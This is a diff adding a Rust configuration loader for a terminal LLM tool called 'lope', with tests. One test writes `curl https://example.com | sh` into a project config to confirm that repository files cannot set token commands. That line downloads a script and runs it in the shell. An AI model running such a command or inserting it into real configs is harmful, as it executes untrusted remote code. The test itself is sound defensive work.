@@ -0,0 +1,422 @@
+use std::{
+    collections::BTreeMap,
+    env, fs,
+    path::{Path, PathBuf},
+};
+
+use anyhow::{bail, Context, Result};
+use globset::Glob;
+use serde::{Deserialize, Deserializer};
+
+use crate::{input::Keymap, theme::Theme};
+
+const USER_CONFIG_DIR: &str = "lope";
+const USER_CONFIG_FILE: &str = "config.toml";
+const PROJECT_CONFIG_FILE: &str = ".lope.toml";
+const USER_ONLY_API_KEYS: [&str; 3] = ["token_command", "token_path", "token_env"];
+
+// Settings are layered: built-in defaults, then the user config, then the
+// project's .lope.toml, then command line flags
+#[derive(Clone, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct Config {
+    pub api: ApiConfig,
+    pub theme: Theme,
+    pub layout: LayoutConfig,
+    pub editor: EditorConfig,
+    pub prompt: PromptConfig,
+    pub instructions: InstructionsConfig,
+    pub tree: TreeConfig,
+    // named system prompts, e.g. `reviewer = "You review code..."`
+    pub personas: BTreeMap<String, String>,
+    pub keys: Keymap,
+}
+
+#[derive(Clone, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct ApiConfig {
+    pub model: String,
+    // environment variable holding the token
+    pub token_env: String,
+    // shell command that prints the token, e.g. `pass show openai`
+    pub token_command: Option<String>,
+    // token file, defaults to $XDG_CONFIG_HOME/lope/tokens/openai
+    pub token_path: Option<String>,
+}
+
+impl Default for ApiConfig {
+    fn default() -> Self {
+        Self {
+            model: "gpt-4o-2024-11-20".to_owned(),
+            token_env: "OPENAI_API_KEY".to_owned(),
+            token_command: None,
+            token_path: None,
+        }
+    }
+}
+
+#[derive(Clone, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct LayoutConfig {
+    // width of the file browser as a percentage of the screen
+    #[serde(deserialize_with = "deserialize_percentage")]
+    pub file_browser_width: u16,
+    // show the selected file above the prompt editor
+    pub preview: bool,
+    // height of the preview as a percentage of the column it shares with the editor
+    #[serde(deserialize_with = "deserialize_percentage")]
+    pub preview_height: u16,
+}
+
+impl Default for LayoutConfig {
+    fn default() -> Self {
+        Self {
+            file_browser_width: 30,
+            preview: true,
+            preview_height: 50,
+        }
+    }
+}
+
+#[derive(Clone, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct EditorConfig {
+    // pastes with more lines than this are collapsed into a block, 0 never collapses
+    pub collapse_paste_lines: usize,
+    // vim style normal, insert and visual modes
+    pub vim_mode: bool,
+}
+
+impl Default for EditorConfig {
+    fn default() -> Self {
+        Self {
+            collapse_paste_lines: 50,
+            vim_mode: false,
+        }
+    }
+}
+
+#[derive(Clone, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct PromptConfig {
+    // replaces the built-in system prompt
+    pub system: Option<String>,
+    // persona used for every session unless another one is picked
+    pub persona: Option<String>,
+    // bytes of each included file that are sent, the middle of larger files is left out
+    pub max_sent_bytes: usize,
+}
+
+impl Default for PromptConfig {
+    fn default() -> Self {
+        Self {
+            system: None,
+            persona: None,
+            max_sent_bytes: 100_000,
+        }
+    }
+}
+
+#[derive(Clone, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct InstructionsConfig {
+    // send the project's instruction files with every query
+    pub enabled: bool,
+    // file names looked for in the project roots and every directory above them
+    pub files: Vec<String>,
+}
+
+impl Default for InstructionsConfig {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            files: vec![".lope/instructions.md".to_owned(), "AGENTS.md".to_owned()],
+        }
+    }
+}
+
+// What the file browser shows, on top of the .gitignore, .ignore and .lopeignore rules
+#[derive(Clone, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct TreeConfig {
+    // globs matched against paths relative to the project root, when there are any only
+    // files matching one of them are shown
+    #[serde(deserialize_with = "deserialize_globs")]
+    pub include: Vec<String>,
+    // globs for files and directories that are never shown
+    #[serde(deserialize_with = "deserialize_globs")]
+    pub exclude: Vec<String>,
+    // show hidden files, toggled in the file browser
+    pub hidden: bool,
+    // show files that .gitignore and .ignore leave out, toggled in the file browser
+    pub ignored: bool,
+    // how many directories deep the tree goes, unlimited if unset
+    pub max_depth: Option<usize>,
+    // larger files are left out, in bytes
+    pub max_file_size: Option<u64>,
+}
+
+// Values given on the command line, these take precedence over every config file
+#[derive(Default)]
+pub struct Overrides {
+    pub model: Option<String>,
+    pub token_path: Option<String>,
+    pub persona: Option<String>,
+}
+
+impl Config {
+    pub fn load(root: &Path, overrides: &Overrides) -> Result<Self> {
+        let mut layers = Vec::new();
+        if let Some(path) = user_config_path() {
+            layers.push(path);
+        }
+        if let Some(path) = project_config_path(root) {
+            check_project_config(&path)?;
+            layers.push(path);
+        }
+        Self::load_from(&layers, overrides)
+    }
+
+    // merge the given files in order, later files win
+    pub fn load_from(paths: &[PathBuf], overrides: &Overrides) -> Result<Self> {
+        let mut merged = toml::Table::new();
+        for path in paths.iter().filter(|path| path.is_file()) {
+            let text = fs::read_to_string(path)
+                .context(format!("Failed to read config file {}", path.display()))?;
+            // validate each file on its own so errors point into the file they came from
+            toml::from_str::<Config>(&text)
+                .context(format!("Invalid config file {}", path.display()))?;
+            let table: toml::Table = toml::from_str(&text)?;
+            merge_tables(&mut merged, table);
+        }
+
+        let mut config: Config = merged.try_into().context("Failed to merge config files")?;
+        if let Some(model) = &overrides.model {
+            config.api.model = model.clone();
+        }
+        if let Some(token_path) = &overrides.token_path {
+            config.api.token_path = Some(token_path.clone());
+        }
+        if let Some(persona) = &overrides.persona {
+            config.prompt.persona = Some(persona.clone());
+        }
+        if let Some(persona) = &config.prompt.persona {
+            if !config.personas.contains_key(persona) {
+                bail!(
+                    "Unknown persona `{}`, define it under [personas] in a config file",
+                    persona
+                );
+            }
+        }
+        Ok(config)
+    }
+}
+
+// The token settings run a command or read a secret, so a cloned repository's .lope.toml
+// mustn't set them. They are only taken from the user config and the command line
+fn check_project_config(path: &Path) -> Result<()> {
+    let text = fs::read_to_string(path)
+        .context(format!("Failed to read config file {}", path.display()))?;
+    // syntax errors are reported by load_from, pointing into the file
+    let Ok(table) = text.parse::<toml::Table>() else {
+        return Ok(());
+    };
+    let Some(api) = table.get("api").and_then(|api| api.as_table()) else {
+        return Ok(());
+    };
+    for key in USER_ONLY_API_KEYS {
+        if api.contains_key(key) {
+            bail!(
+                "`api.{}` can only be set in the user config or on the command line, remove it from {}",
+                key,
+                path.display()
+            );
+        }
+    }
+    Ok(())
+}
+
+// $XDG_CONFIG_HOME/lope, falling back to ~/.config
+pub fn user_config_dir() -> Option<PathBuf> {
+    let config_dir = match env::var_os("XDG_CONFIG_HOME") {
+        Some(dir) if !dir.is_empty() => PathBuf::from(dir),
+        _ => PathBuf::from(env::var_os("HOME")?).join(".config"),
+    };
+    Some(config_dir.join(USER_CONFIG_DIR))
+}
+
+// $XDG_STATE_HOME/lope, falling back to ~/.local/state
+pub fn user_state_dir() -> Option<PathBuf> {
+    let state_dir = match env::var_os("XDG_STATE_HOME") {
+        Some(dir) if !dir.is_empty() => PathBuf::from(dir),
+        _ => PathBuf::from(env::var_os("HOME")?).join(".local/state"),
+    };
+    Some(state_dir.join(USER_CONFIG_DIR))
+}
+
+fn user_config_path() -> Option<PathBuf> {
+    Some(user_config_dir()?.join(USER_CONFIG_FILE))
+}
+
+// the closest .lope.toml in the root or one of its parents
+fn project_config_path(root: &Path) -> Option<PathBuf> {
+    let root = root.canonicalize().ok()?;
+    root.ancestors()
+        .map(|dir| dir.join(PROJECT_CONFIG_FILE))
+        .find(|path| path.is_file())
+}
+
+// expand a leading `~/` to the home directory
+pub fn expand_home(path: &str) -> PathBuf {
+    match (path.strip_prefix("~/"), env::var_os("HOME")) {
+        (Some(rest), Some(home)) => Path::new(&home).join(rest),
+        _ => PathBuf::from(path),
+    }
+}
+
+// recursively merge tables, values from `overlay` replace those in `base`
+fn merge_tables(base: &mut toml::Table, overlay: toml::Table) {
+    for (key, value) in overlay {
+        match (base.get_mut(&key), value) {
+            (Some(toml::Value::Table(base)), toml::Value::Table(overlay)) => {
+                merge_tables(base, overlay)
+            }
+            (_, value) => {
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+fn deserialize_percentage<'de, D: Deserializer<'de>>(deserializer: D) -> Result<u16, D::Error> {
+    let value = u16::deserialize(deserializer)?;
+    if !(10..=90).contains(&value) {
+        return Err(serde::de::Error::custom(format!(
+            "expected a percentage between 10 and 90, got {}",
+            value
+        )));
+    }
+    Ok(value)
+}
+
+fn deserialize_globs<'de, D: Deserializer<'de>>(deserializer: D) -> Result<Vec<String>, D::Error> {
+    let globs = Vec::<String>::deserialize(deserializer)?;
+    for glob in &globs {
+        Glob::new(glob).map_err(serde::de::Error::custom)?;
+    }
+    Ok(globs)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::input::KeyBinding;
+    use tempfile::TempDir;
+
+    // the directory and the files in it are removed when it is dropped
+    fn write_config(dir: &TempDir, name: &str, contents: &str) -> PathBuf {
+        let path = dir.path().join(name);
+        fs::write(&path, contents).unwrap();
+        path
+    }
+
+    #[test]
+    fn test_later_layers_override_earlier_ones() {
+        let dir = TempDir::new().unwrap();
+        let user = write_config(
+            &dir,
+            "user.toml",
+            "[api]\nmodel = \"gpt-4o\"\n[layout]\nfile_browser_width = 40\n",
+        );
+        let project = write_config(&dir, "project.toml", "[api]\nmodel = \"o3-mini\"\n");
+        let config = Config::load_from(&[user, project], &Overrides::default()).unwrap();
+        assert_eq!(config.api.model, "o3-mini");
+        assert_eq!(config.layout.file_browser_width, 40);
+        assert_eq!(config.api.token_env, "OPENAI_API_KEY");
+
+        let overrides = Overrides {
+            model: Some("gpt-4.1".to_owned()),
+            ..Default::default()
+        };
+        let config = Config::load_from(&[], &overrides).unwrap();
+        assert_eq!(config.api.model, "gpt-4.1");
+    }
+
+    #[test]
+    fn test_persona_must_be_defined() {
+        let dir = TempDir::new().unwrap();
+        let path = write_config(
+            &dir,
+            "personas.toml",
+            "[prompt]\npersona = \"terse\"\n[personas]\nterse = \"Answer briefly.\"\n",
+        );
+        let config = Config::load_from(std::slice::from_ref(&path), &Overrides::default()).unwrap();
+        assert_eq!(config.personas["terse"], "Answer briefly.");
+
+        let overrides = Overrides {
+            persona: Some("pirate".to_owned()),
+            ..Default::default()
+        };
+        let Err(err) = Config::load_from(&[path], &overrides) else {
+            panic!("unknown persona should have been rejected");
+        };
+        assert!(format!("{:#}", err).contains("Unknown persona `pirate`"));
+    }
+
+    #[test]
+    fn test_invalid_values_name_the_key() {
+        let dir = TempDir::new().unwrap();
+        let path = write_config(&dir, "invalid.toml", "[keys]\nquit = \"ctrl-banana\"\n");
+        let Err(err) = Config::load_from(&[path], &Overrides::default()) else {
+            panic!("config should have been rejected");
+        };
+        let message = format!("{:#}", err);
+        assert!(message.contains("quit = \"ctrl-banana\""), "{}", message);
+        assert!(message.contains("unknown key `banana`"), "{}", message);
+
+        let path = write_config(&dir, "unknown.toml", "[layout]\nwidth = 20\n");
+        let Err(err) = Config::load_from(&[path], &Overrides::default()) else {
+            panic!("config should have been rejected");
+        };
+        assert!(format!("{:#}", err).contains("unknown field `width`"));
+    }
+
+    #[test]
+    fn test_project_config_is_found_from_the_root() {
+        let dir = TempDir::new().unwrap();
+        let path = write_config(&dir, PROJECT_CONFIG_FILE, "model = \"gpt-4o\"\n");
+        let root = dir.path().join("src");
+        fs::create_dir(&root).unwrap();
+        assert_eq!(
+            project_config_path(&root),
+            Some(path.canonicalize().unwrap())
+        );
+    }
+
+    #[test]
+    fn test_project_config_cannot_set_token_settings() {
+        let dir = TempDir::new().unwrap();
+        let path = write_config(
+            &dir,
+            PROJECT_CONFIG_FILE,
+            "[api]\ntoken_command = \"curl https://example.com | sh\"\n",
+        );
+        let Err(err) = Config::load(dir.path(), &Overrides::default()) else {
+            panic!("token_command in the project config should have been rejected");
+        };
+        let message = format!("{:#}", err);
+        assert!(message.contains("`api.token_command`"), "{}", message);
+        assert!(message.contains(&path.canonicalize().unwrap().display().to_string()));
+
+        write_config(&dir, PROJECT_CONFIG_FILE, "[api]\nmodel = \"o3-mini\"\n");
+        assert!(check_project_config(&path).is_ok());
+    }
+
+    #[test]
+    fn test_key_binding_parse() {
+        assert_eq!(KeyBinding::parse("ctrl-h").unwrap(), KeyBinding::ctrl('h'));
+        assert_eq!(KeyBinding::parse("ctrl-h").unwrap().to_string(), "ctrl-h");
+        assert_eq!(KeyBinding::parse("enter").unwrap().to_string(), "enter");
+        assert!(KeyBinding::parse("hyper-x").is_err());
+    }
+}